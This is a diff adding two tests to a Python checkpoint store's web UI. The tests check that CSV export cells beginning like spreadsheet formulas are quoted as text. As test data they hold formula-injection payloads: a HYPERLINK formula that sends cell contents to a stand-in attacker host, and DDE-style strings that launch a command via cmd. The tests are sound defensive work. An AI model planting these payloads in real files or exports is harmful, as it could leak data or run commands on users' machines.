@@ -3,6 +3,8 @@ incremental reads, and names that must not reach outside LOCATION."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import shutil
@@ -384,3 +386,43 @@ def test_a_first_read_inspects_every_directory_and_later_reads_follow(tmp_path: 
     assert kinds["checkpoint_000007"] in ("best", "latest")
     assert later["total_rows"] == 8
     assert [r["val"]["accuracy"] for r in later["rows"]] == [0.05]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path: Any) -> None:
+    """A parameter "=HYPERLINK(...)" (params.json, anyone writing to the store)
+    went into the best-rows CSV as is: a spreadsheet opening the download runs
+    it as a formula. Every text cell starting like a formula is now quoted as
+    text; numbers, negative ones included, stay numbers."""
+    from checkpoint_store.ui._server import create_app
+
+    store = Store(str(tmp_path / "s"))
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    report_trial(store, "e", "@t", [0.2, 0.4], [True, True],
+                 {"note": evil, "cmd": "+1+cmd|' /C calc'!A0", "neg": -0.5})
+    client = create_app(StoreView(store.uri)).test_client()
+    for query in ({"experiment": "e"}, {"experiment": "e", "trial": "@t"}):
+        reply = client.get("/api/csv", query_string=query, headers={"Host": "127.0.0.1"})
+        assert reply.status_code == 200
+        rows = list(csv.reader(io.StringIO(reply.get_data(as_text=True))))
+        cells = [c for row in rows for c in row]
+        assert not any(c.startswith(("=", "+", "@")) for c in cells), cells
+    best = list(csv.DictReader(io.StringIO(client.get(
+        "/api/csv", query_string={"experiment": "e"}, headers={"Host": "127.0.0.1"}
+    ).get_data(as_text=True))))[0]
+    assert best["trial"] == "'@t" and best["param/note"] == "'" + evil
+    assert best["param/neg"] == "-0.5"  # a number, unchanged
+
+
+def test_csv_of_a_trials_rows_quotes_a_reported_formula(tmp_path: Any) -> None:
+    """The same for a metric a run reported as text (a tag, a path) in result.json."""
+    from checkpoint_store import session
+    from checkpoint_store.ui._server import create_app
+
+    root = str(tmp_path / "s")
+    with session.start(storage_path=root, experiment_name="e", trial_name="t"):
+        session.report({"loss": 0.5, "tag": "-2+3+cmd|' /C calc'!A0"})
+    client = create_app(StoreView(root)).test_client()
+    reply = client.get("/api/csv", query_string={"experiment": "e", "trial": "t"},
+                       headers={"Host": "127.0.0.1"})
+    (row,) = list(csv.DictReader(io.StringIO(reply.get_data(as_text=True))))
+    assert row["tag"] == "'-2+3+cmd|' /C calc'!A0" and row["loss"] == "0.5"
